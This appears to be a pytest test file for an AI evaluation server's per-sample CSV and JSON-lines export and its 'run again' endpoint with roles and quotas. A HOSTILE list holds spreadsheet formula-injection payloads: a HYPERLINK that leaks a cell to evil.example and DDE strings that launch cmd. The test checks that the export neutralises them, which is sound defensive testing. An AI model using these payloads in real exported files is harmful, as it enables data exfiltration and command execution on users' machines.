"""Per-sample export of one evaluation (CSV and JSON lines, streamed) and "run again" (issue 10, results pages).

One real run of the tiny model through the worker code and OpenCompass gives the samples the export must match
(the sample list is the reference: the export is the same rows without pages); results folders written by hand
test what a real run cannot produce on demand (hostile predictions, many thousands of rows)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from pydantic import SecretStr

MCQ_ROWS = [{"question": f"What is {i} + 1?", "A": str(i + 1), "B": str(i + 2), "C": "7", "D": "9", "answer": "A"}
            for i in range(4)]
QA_ROWS = [{"question": "Say OK", "answer": "OK"}, {"question": "Say yes", "answer": "yes"},
           {"question": "Name a colour", "answer": "red"}]
COLUMNS = ["model", "dataset", "index", "prompt", "prediction", "extracted", "gold", "correct", "scorer", "judge_verdict",
           "judge_rationale", "latency_s", "ttft_s", "prompt_tokens", "completion_tokens"]


def _jsonl(rows: list[dict]) -> bytes:
    return "\n".join(json.dumps(row) for row in rows).encode()


def _run_on_the_worker(settings, evaluation_id: int) -> str:
    """What the Celery task does with a message: the real worker code and a real (cold) OpenCompass launcher."""
    from aieval_engine.launchers import ColdLauncher
    from aieval_server.services.runs import run_evaluation
    from aieval_server.storage import get_storage

    return run_evaluation(settings, get_storage(settings), evaluation_id, ColdLauncher())


def _csv_rows(response) -> list[dict]:
    text = response.content.decode("utf-8-sig")  # the byte order mark spreadsheets need to read UTF-8
    reader = csv.reader(io.StringIO(text))
    assert next(reader) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in reader]


def _all_samples(client, evaluation_id: int, **filters) -> list[dict]:
    response = client.get(f"/api/v1/evaluations/{evaluation_id}/samples", params={**filters, "page_size": 500})
    assert response.status_code == 200, response.text
    return response.json()["items"]


def _as_cell(value) -> str:
    """How the export writes a value in a CSV cell (chat turns as "ROLE: text" lines, as the sample browser)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, list) and all(isinstance(turn, dict) and "prompt" in turn for turn in value):
        return "\n".join(f"{turn.get('role', '')}: {turn['prompt']}" for turn in value)
    return value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)


def test_a_real_run_exports_every_sample_as_the_sample_list_shows_it_and_runs_again(
        client, settings, tiny_model, queued_messages):
    model = client.post("/api/v1/models", json={"name": "tiny", "kind": "huggingface", "path": str(tiny_model)})
    mcq = client.post("/api/v1/datasets", data={"name": "sums"}, files={"file": ("sums.jsonl", _jsonl(MCQ_ROWS))})
    qa = client.post("/api/v1/datasets", data={"name": "replies", "scorer": "contains"},
                     files={"file": ("replies.jsonl", _jsonl(QA_ROWS))})
    assert model.status_code == 201 and mcq.status_code == 201 and qa.status_code == 201, (model.text, mcq.text, qa.text)
    submitted = client.post("/api/v1/evaluations", json={
        "name": "export me", "model_ids": [model.json()["id"]],
        "dataset_ids": [mcq.json()["dataset"]["id"], qa.json()["dataset"]["id"]],
        "params": {"limit": 3, "max_out_len": 8}, "visibility": "shared"})
    assert submitted.status_code == 201, submitted.text
    evaluation_id = submitted.json()["id"]
    assert _run_on_the_worker(settings, evaluation_id) == "succeeded"

    listed = _all_samples(client, evaluation_id)
    assert [(s["dataset"], s["index"]) for s in listed] == [("sums", 1), ("sums", 2), ("sums", 3),
                                                            ("replies", 1), ("replies", 2), ("replies", 3)]
    assert {s["dataset"]: s["scorer"] for s in listed} == {"sums": "exact", "replies": "contains"}
    assert [s["gold"] for s in listed if s["dataset"] == "sums"] == ["A", "A", "A"]
    assert all(s["correct"] in (True, False) for s in listed), "both scorers give a verdict per sample"

    exported = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.headers["content-disposition"] == f'attachment; filename="evaluation-{evaluation_id}-samples.csv"'
    rows = _csv_rows(exported)
    assert rows == [{column: str(s[column]) if column == "index" else _as_cell(s[column]) for column in COLUMNS}
                    for s in listed]

    lines = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"format": "jsonl"})
    assert lines.status_code == 200 and lines.headers["content-type"].startswith("application/x-ndjson")
    assert lines.headers["content-disposition"].endswith(f'filename="evaluation-{evaluation_id}-samples.jsonl"')
    assert [json.loads(line) for line in lines.text.splitlines()] == [{c: s[c] for c in COLUMNS} for s in listed]

    # The same filters as the sample list.
    for filters in ({"dataset": "replies"}, {"correct": "false"}, {"correct": "true", "model": "tiny"}):
        chosen = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"format": "jsonl", **filters})
        assert chosen.status_code == 200, chosen.text
        assert [json.loads(line) for line in chosen.text.splitlines()] == [
            {c: s[c] for c in COLUMNS} for s in _all_samples(client, evaluation_id, **filters)], filters

    # Run again: a new evaluation with the same settings, queued for a worker.
    before = len(queued_messages())
    again = client.post(f"/api/v1/evaluations/{evaluation_id}/rerun")
    assert again.status_code == 201, again.text
    original, copy = client.get(f"/api/v1/evaluations/{evaluation_id}").json(), again.json()
    assert copy["id"] != evaluation_id and copy["status"] == "queued" and copy["name"] == "export me (again)"
    for field in ("models", "datasets", "params", "visibility", "queue"):
        assert copy[field] == original[field], field
    assert len(queued_messages()) == before + 1
    assert client.post(f"/api/v1/evaluations/{copy['id']}/rerun").status_code == 409, "not finished yet"
    assert _run_on_the_worker(settings, copy["id"]) == "succeeded"
    twice = client.post(f"/api/v1/evaluations/{copy['id']}/rerun").json()
    assert twice["name"] == "export me (again)", "the suffix is not stacked"
    assert [json.loads(line) for line in client.get(f"/api/v1/evaluations/{copy['id']}/samples/export",
                                                    params={"format": "jsonl"}).text.splitlines()] == \
        [{c: s[c] for c in COLUMNS} for s in listed], "the same settings give the same samples (greedy decoding)"


# ---- results folders written by hand --------------------------------------------------------------------------------
RUN_DIR = "20250101_000000"


@pytest.fixture
def stored_run(client, settings):
    """An evaluation that finished with the given predictions: rows in the database, files in storage laid out as a
    worker stores a run (model "m" × dataset "d", scored with the exact scorer)."""
    from aieval_server.db import session_scope
    from aieval_server.models import Evaluation, Score
    from aieval_server.storage import get_storage

    def make(predictions: list[dict], details: list[dict]) -> int:
        pair = {"model": "m", "model_abbr": "m", "dataset": "d", "dataset_abbr": "d", "dataset_index": 0,
                "state": "evaluated", "ok": True}
        with session_scope(settings.database_url) as session:
            evaluation = Evaluation(name="stored", status="succeeded", params={"limit": len(predictions)},
                                    queue="local", artifacts_stored=True, run_dir_name=RUN_DIR, pairs=[pair])
            session.add(evaluation)
            session.flush()
            session.add(Score(evaluation_id=evaluation.id, model_name="m", dataset_name="d", model_abbr="m",
                              dataset_abbr="d", metric="accuracy", value=50.0, scorer="exact"))
            evaluation_id = evaluation.id
        folder = settings.data_dir / "staging"
        folder.mkdir(exist_ok=True)
        storage = get_storage(settings)
        prefix = f"evaluations/{evaluation_id}/outputs/{RUN_DIR}"
        for kind, content in (("predictions", {str(i): row for i, row in enumerate(predictions)}),
                              ("results", {"accuracy": 50.0, "details": details})):
            source = folder / f"{kind}.json"
            source.write_text(json.dumps(content), encoding="utf-8")
            storage.put_file(f"{prefix}/{kind}/m/d.json", source)
        return evaluation_id

    return make


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_from_model_output_cannot_become_formulas_and_json_lines_keep_the_text(client, stored_run):
    evaluation_id = stored_run(
        [{"origin_prompt": text, "prediction": text, "gold": text} for text in HOSTILE],
        [{"pred": [text], "parsed": [text[::-1]], "refr": [text], "correct": [i % 2 == 0]}
         for i, text in enumerate(HOSTILE)])
    response = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = _csv_rows(response)
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        for column in ("prompt", "prediction", "gold", "extracted"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
        assert row["prediction"] == row["prompt"] == row["gold"] == "'" + text, "the text itself is kept"
    assert [row["index"] for row in rows] == [str(i) for i in range(1, len(HOSTILE) + 1)]
    assert [row["correct"] for row in rows] == ["true", "false"] * 3
    assert {row["scorer"] for row in rows} == {"exact"}, "as the pair's score names it"
    lines = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"format": "jsonl"})
    assert [json.loads(line)["prediction"] for line in lines.text.splitlines()] == HOSTILE
    assert [json.loads(line)["extracted"] for line in lines.text.splitlines()] == [t[::-1] for t in HOSTILE]


def test_many_thousand_samples_are_produced_piece_by_piece(client, settings, stored_run):
    from aieval_server.db import session_scope
    from aieval_server.services import artifacts, evaluations
    from aieval_server.services.accounts import LOCAL_CALLER
    from aieval_server.storage import get_storage

    count = 20_000
    evaluation_id = stored_run(
        [{"origin_prompt": f"question {i}: " + "x" * 40, "prediction": f"answer {i}", "gold": "A"} for i in range(count)],
        [{"pred": [f"answer {i}"], "parsed": ["A" if i % 3 else "B"], "refr": ["A"], "correct": [bool(i % 3)]}
         for i in range(count)])
    with session_scope(settings.database_url) as session:
        evaluation = evaluations.readable(session, evaluation_id, LOCAL_CALLER)
        pieces = artifacts.sample_export(settings, get_storage(settings), evaluation, "jsonl", model=None, dataset=None,
                                         correct=None)
    # Produced while sent (after the request's session closed), in pieces of ~64 KiB: never the whole export at once.
    sizes = []
    body = b""
    for piece in pieces:
        sizes.append(len(piece))
        body += piece
    assert len(sizes) > 20 and max(sizes) < (1 << 16) + 1000, sizes[:5]
    lines = body.decode().splitlines()
    assert len(lines) == count and json.loads(lines[-1])["index"] == count
    answer = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export",
                        params={"format": "jsonl", "correct": "false"})
    assert len(answer.text.splitlines()) == len(range(0, count, 3))


def test_requests_that_cannot_be_answered_say_why(client, stored_run):
    evaluation_id = stored_run([{"origin_prompt": "q", "prediction": "p", "gold": "g"}], [{"correct": [False]}])
    unknown = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"dataset": "nope"})
    assert unknown.status_code == 422 and "m × d" in unknown.json()["detail"], unknown.text
    wrong_format = client.get(f"/api/v1/evaluations/{evaluation_id}/samples/export", params={"format": "xlsx"})
    assert wrong_format.status_code == 422, wrong_format.text
    assert client.get("/api/v1/evaluations/4242/samples/export").status_code == 404
    assert client.post("/api/v1/evaluations/4242/rerun").status_code == 404


# ---- run again, with sign-in on ----------------------------------------------------------------------------------
ADMIN, PASSWORD = "root", "correct horse battery"


@pytest.fixture
def team(settings):
    """A server with sign-in on: an administrator, a member allowed one active evaluation, and a viewer."""
    from fastapi.testclient import TestClient

    from aieval_server.main import create_app

    auth = settings.model_copy(update={"auth_enabled": True, "initial_admin_username": ADMIN,
                                       "initial_admin_password": SecretStr(PASSWORD)})
    with TestClient(create_app(auth)) as client:
        def headers(username: str) -> dict[str, str]:
            response = client.post("/api/v1/auth/login", json={"username": username, "password": PASSWORD})
            assert response.status_code == 200, response.text
            token = response.cookies["aieval_session"]
            client.cookies.clear()  # each request says who it is by its own header
            return {"Authorization": f"Bearer {token}"}

        admin = headers(ADMIN)
        for username, role, limits in (("ann", "member", {"max_active_evaluations": 1}), ("vic", "viewer", {})):
            made = client.post("/api/v1/users", headers=admin,
                               json={"username": username, "password": PASSWORD, "role": role})
            assert made.status_code == 201, made.text
            if limits:
                changed = client.patch(f"/api/v1/users/{made.json()['id']}", headers=admin, json=limits)
                assert changed.status_code == 200, changed.text
        yield client, {"admin": admin, "ann": headers("ann"), "vic": headers("vic")}, auth


def _finished(settings, evaluation_id: int) -> None:
    from aieval_server.db import session_scope
    from aieval_server.models import Evaluation

    with session_scope(settings.database_url) as session:
        session.get(Evaluation, evaluation_id).status = "succeeded"


def test_run_again_is_a_new_submission_of_the_caller_with_every_check_of_one(team):
    client, as_user, settings = team
    made = {}
    for visibility in ("shared", "private"):
        model = client.post("/api/v1/models", headers=as_user["admin"], json={
            "name": f"endpoint {visibility}", "kind": "openai", "base_url": "http://127.0.0.1:9/v1", "model": "m",
            "visibility": visibility})
        assert model.status_code == 201, model.text
        made[visibility] = model.json()["id"]
    dataset = client.post("/api/v1/datasets", headers=as_user["admin"], data={"visibility": "shared"},
                          files={"file": ("qa.jsonl", _jsonl(QA_ROWS))})
    assert dataset.status_code == 201, dataset.text

    def evaluation(model_id: int, visibility: str) -> int:
        created = client.post("/api/v1/evaluations", headers=as_user["admin"], json={
            "name": f"admin's {visibility}", "model_ids": [model_id], "dataset_ids": [dataset.json()["dataset"]["id"]],
            "params": {"limit": 2}, "visibility": visibility})
        assert created.status_code == 201, created.text
        _finished(settings, created.json()["id"])
        return created.json()["id"]

    shared = evaluation(made["shared"], "shared")
    viewer = client.post(f"/api/v1/evaluations/{shared}/rerun", headers=as_user["vic"])
    assert viewer.status_code == 403, viewer.text
    again = client.post(f"/api/v1/evaluations/{shared}/rerun", headers=as_user["ann"])
    assert again.status_code == 201, again.text
    assert again.json()["owner"]["username"] == "ann" and again.json()["visibility"] == "shared"
    assert again.json()["can_change"] is True
    # Her quota: one queued or running evaluation.
    over = client.post(f"/api/v1/evaluations/{shared}/rerun", headers=as_user["ann"])
    assert over.status_code == 429, over.text
    client.post(f"/api/v1/evaluations/{again.json()['id']}/cancel", headers=as_user["ann"])
    # What she may not read stays hidden: a private evaluation, or a shared one of a private model.
    private = evaluation(made["shared"], "private")
    assert client.post(f"/api/v1/evaluations/{private}/rerun", headers=as_user["ann"]).status_code == 404
    of_private_model = evaluation(made["private"], "shared")
    refused = client.post(f"/api/v1/evaluations/{of_private_model}/rerun", headers=as_user["ann"])
    assert refused.status_code == 422 and refused.json()["detail"].startswith("unknown model"), refused.text
    # The administrator may run her private one again; it stays private.
    assert client.post(f"/api/v1/evaluations/{private}/rerun", headers=as_user["admin"]).json()["visibility"] == "private"
